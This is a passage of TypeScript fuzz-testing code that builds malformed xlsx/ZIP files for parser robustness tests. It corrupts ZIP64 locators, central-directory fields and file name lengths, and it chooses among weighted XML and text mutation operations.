      const at = rng.pick([0, layout.centralStart, bytes.length + 100, 0xffffffff]);
      loc.writeBigUInt64LE(BigInt(at), 8);
      const eocd = Buffer.from(bytes.subarray(layout.eocd));
      eocd.writeUInt16LE(0xffff, 10);
      if (rng.chance(0.5)) eocd.writeUInt32LE(0xffffffff, 16);
      return { bytes: Buffer.concat([bytes.subarray(0, layout.eocd), loc, eocd]), op: `zip64 locator at ${at}` };
    }
    case 7: {
      const junk = Buffer.from(Array.from({ length: rng.pick([1, 100, 70000]) }, () => rng.int(256)));
      return rng.chance(0.5)
        ? { bytes: Buffer.concat([bytes, junk]), op: `append ${junk.length} bytes` }
        : {
            bytes: Buffer.concat([bytes.subarray(0, 4), junk, bytes.subarray(4)]),
            op: `insert ${junk.length} bytes after the magic`,
          };
    }
    default: {
      // A file name length that runs past the header.
      if (!e) return { bytes, op: 'no entry' };
      const at = rng.chance(0.5) ? e.central + 28 : e.local + 26;
      const v = rng.pick([0, 0xffff, rng.int(0x10000)]);
      bytes.writeUInt16LE(v, at);
      return { bytes, op: `name length of ${e.name} = ${v}` };
    }
  }
};

// ------------------------------------------------------------------------------------------ a case

const XML_OPS: [XmlOp, number][] = [
  [elementOp, 6],
  [breakOp, 4],
  [attrOp, 8],
  [escapeOp, 4],
  [mergeOp, 3],
  [rangeFeatureOp, 3],
  [definedNameOp, 2],
  [deepOp, 2],
  [doctypeOp, 2],
  [rowsOp, 3],
  [richOp, 3],
  [profileOp, 2],
];

const TEXT_OPS: [XmlOp, number][] = [
  [cellTextOp, 6],
  [cellValueOp, 2],
  [badUtf8, 1],
  [richOp, 1],
];

/** Case k of the run with this seed. */
export function makeCase(seeds: readonly Seed[], runSeed: number, k: number): FuzzCase {
  const rng = new Rng(runSeed, k);
  const seed = rng.pick(seeds);
  const w = new Work(
    rng,
    seed.parts.map((p) => ({ name: p.name, data: p.data })),
  );
  const level = rng.weighted([
    ['zip', 25],
    ['xml', 45],
    ['text', 30],
  ] as const);
  const n = rng.weighted([
    [1, 6],
    [2, 3],
    [3, 1],
  ] as const);
  const run = (op: XmlOp | EntryOp) => {
    const what = op(w);
    if (what) w.ops.push(what);
  };
  if (level === 'xml') for (let i = 0; i < n; i++) run(rng.weighted(XML_OPS));
  else if (level === 'text') for (let i = 0; i < n; i++) run(rng.weighted(TEXT_OPS));
  else {
    if (rng.chance(0.4)) run(entryOp);
    if (rng.chance(0.04)) run(bombOp);
  }
  let { bytes, layout } = writeZip(w.entries);
  // Damage to the container: most zip-level cases, and now and then on top of the others.
  if (level === 'zip' ? w.ops.length === 0 || rng.chance(0.6) : rng.chance(0.08)) {
    const bn = rng.range(1, level === 'zip' ? n : 1);
    for (let i = 0; i < bn; i++) {
      try {
        const r = byteOp(rng, bytes, layout);
        bytes = r.bytes;
        w.ops.push(r.op);
      } catch {
        // A second change found the offsets of the first gone (a cut zip): nothing more to damage there.
      }
    }
  }
  return { seed: seed.name, ops: w.ops, bytes };
}
